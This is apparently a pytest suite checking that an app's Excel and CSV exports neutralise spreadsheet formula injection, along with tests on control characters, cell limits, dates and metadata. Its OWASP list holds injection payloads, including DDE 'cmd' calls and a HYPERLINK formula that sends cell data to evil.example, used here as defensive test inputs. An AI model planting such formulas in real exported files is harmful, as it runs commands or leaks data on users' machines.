"""Sheets and CSV that a spreadsheet can open without running anything (CWE-1236), opened again by the library."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import tempfile
import zipfile
from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from app.errors import Cancelled, UserError
from app.model.occurrences import Period
from app.model.spreadsheet_text import as_it_was
from app.progress import Silent
from app.report import workbook as workbook_module
from app.report.columns import Column
from app.report.table_rows import PlainTable
from app.report.workbook import LONGEST_CELL, csv_pieces, for_a_cell, workbook
from tests.builders import home

if TYPE_CHECKING:
    from pathlib import Path

    from openpyxl import Workbook

PERIOD = Period(dt.date(2026, 1, 5).toordinal(), dt.date(2026, 1, 11).toordinal(), home("Europe/Berlin"))
DDE = "=cmd|'/C calc'!A0"
OWASP = [
    DDE,
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "=1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!D2",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "\N{FULLWIDTH PLUS SIGN}1",
    "\N{FULLWIDTH HYPHEN-MINUS}1",
    "\N{FULLWIDTH COMMERCIAL AT}SUM(1)",
    "a;=1+1",
    "a\t=1+1",
    "a\n=1+1",
    "a\r\n@SUM(1)",
    '",=1+1,"',
    '"\r\n=1+1',
    "'=1+1",
    "%0A-1+1",
]
SIGNS = re.compile(
    r"[=+\-@\N{FULLWIDTH EQUALS SIGN}\N{FULLWIDTH PLUS SIGN}\N{FULLWIDTH HYPHEN-MINUS}\N{FULLWIDTH COMMERCIAL AT}]"
)


def table(*rows: tuple[Any, ...], values: tuple[Any, ...] = ("text",)) -> PlainTable:
    columns = tuple(Column(f"c{number}", value, "minutes", "What it means") for number, value in enumerate(values))
    return PlainTable("series", "Series", columns, rows)


def opened(*tables: PlainTable) -> Workbook:
    return load_workbook(io.BytesIO(workbook(tables, PERIOD)))


def csv_cells(*tables: PlainTable) -> list[list[str]]:
    data = b"".join(csv_pieces(tables[0]))
    return list(csv.reader(io.StringIO(data.decode(), newline="")))


def parts_that_a_spreadsheet_may_see(cell: str) -> list[str]:
    return [part.strip(" \u200b\ufeff\0") for part in re.split(r"[;\t\r\n]", cell)]


# ---- formulas ----


@pytest.mark.parametrize("text", OWASP, ids=ascii)
def test_no_cell_of_a_workbook_is_a_formula(text: str) -> None:
    cell = opened(table((text,)))["Series"]["A2"]
    assert cell.data_type == "s"
    assert cell.number_format == "@"
    assert not any(SIGNS.match(part) for part in parts_that_a_spreadsheet_may_see(str(cell.value)))


@pytest.mark.parametrize("text", OWASP, ids=ascii)
def test_no_cell_of_a_csv_is_a_formula(text: str) -> None:
    data = b"".join(csv_pieces(table((text,))))
    assert data.startswith(b'"c0"\r\n"')
    ((__,), (cell,)) = csv_cells(table((text,)))
    assert not any(SIGNS.match(part) for part in parts_that_a_spreadsheet_may_see(cell))
    assert as_it_was(cell) == text


def test_no_formula_stands_in_the_file_itself() -> None:
    data = workbook([table(*((text,) for text in OWASP))], PERIOD)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if "worksheets/" in name]
    assert len(sheets) == 2
    assert not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)


@given(st.text(max_size=60))
def test_whatever_a_title_says_the_workbook_holds_it_as_text(text: str) -> None:
    cell = opened(table((text,)))["Series"]["A2"]
    assert cell.data_type in {"s", "n"}  # nothing at all is read back as an empty cell
    assert (cell.value or "") == for_a_cell(text)


def test_what_looks_like_an_error_or_a_date_stays_text() -> None:
    texts = ["#N/A", "#REF!", "TRUE", "2026-01-05", "1e5", "007", "50%"]
    sheet = opened(table(*((text,) for text in texts)))["Series"]
    assert [(row[0].value, row[0].data_type) for row in sheet.iter_rows(min_row=2)] == [(text, "s") for text in texts]


def test_what_looks_like_the_number_of_a_character_is_no_character() -> None:
    # The library gives back what stands in the file; a spreadsheet reads _x005F_ as the line that it is.
    assert opened(table(("_x0041_ _x000D_=1",)))["Series"]["A2"].value == "_x005F_x0041_ _x005F_x000D_=1"


# ---- what a sheet cannot hold ----


def test_control_characters_are_made_visible() -> None:
    sheet = opened(table(("bell\x07 null\0 esc\x1b[0m \ud800 \uffff end",)))["Series"]
    assert sheet["A2"].value == "bell<U+0007> null<U+0000> esc<U+001B>[0m <U+D800> <U+FFFF> end"


def test_a_text_beyond_the_longest_is_cut() -> None:
    value = opened(table(("x" * 40_000,)))["Series"]["A2"].value
    assert isinstance(value, str)
    assert len(value) == LONGEST_CELL
    assert value.endswith("x…")


def test_too_many_rows_are_refused_in_a_sentence(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workbook_module, "MOST_ROWS", 2)
    with pytest.raises(UserError, match="more rows than a sheet can hold"):
        workbook([table(("a",), ("b",), ("c",))], PERIOD)


# ---- values ----


def test_numbers_of_ours_stay_numbers_and_unknown_stays_empty() -> None:
    values = ("whole", "number", "yes-no", "date", "instant")
    berlin_ten = 1_767_603_600  # 2026-01-05T09:00:00Z
    sheet = opened(
        table((-3, -1.5, False, dt.date(2026, 1, 5), berlin_ten), (None,) * 5, (0, 0.0, True, None, 0), values=values)
    )["Series"]
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert rows[0] == (-3, -1.5, False, dt.datetime(2026, 1, 5), dt.datetime(2026, 1, 5, 10))
    assert all(value is None for value in (rows[1] if len(rows) > 1 else ()))
    assert rows[2][:3] == (0, 0.0, True)
    assert csv_cells(table((-3, -1.5, False, dt.date(2026, 1, 5), berlin_ten), values=values))[1] == [
        "-3",
        "-1.5",
        "false",
        "2026-01-05",
        "2026-01-05T09:00:00Z",
    ]
    assert csv_cells(table((None,) * 5, values=values))[1] == [""] * 5


def test_dates_before_spreadsheets_agree_are_text() -> None:
    sheet = opened(table((dt.date(1900, 1, 31),), values=("date",)))["Series"]
    assert (sheet["A2"].value, sheet["A2"].data_type) == ("1900-01-31", "s")


def test_units_and_meanings_have_a_sheet_of_their_own() -> None:
    book = opened(table(("a",)), PlainTable("days", "Days", (Column("date", "date", "date", "The day"),), ()))
    assert book.sheetnames == ["Series", "Days", "Definitions"]
    rows = list(book["Definitions"].iter_rows(values_only=True))
    assert rows[0] == ("table", "column", "unit", "meaning")
    assert rows[1] == ("Series", "c0", "minutes", "What it means")
    assert rows[2] == ("Days", "date", "date", "The day")
    said = [row[0] for row in rows[3:] if row[0]]
    assert said[0] == "The period: 2026-01-05 to 2026-01-11, both included."
    assert said[1] == "Times are on the clock of Europe/Berlin."


def test_nothing_of_this_machine_is_in_a_workbook() -> None:
    book = opened(table(("a",)))
    properties = book.properties
    assert (properties.creator, properties.lastModifiedBy) == ("Clearweek", None)
    assert properties.created == dt.datetime(2000, 1, 1)


def test_the_writing_can_be_stopped_and_leaves_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    class Stopped(Silent):
        def check(self) -> None:
            raise Cancelled

    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    with pytest.raises(Cancelled):
        workbook([table(("a",)), table(("b",))], PERIOD, Stopped())
    assert list(tmp_path.iterdir()) == []
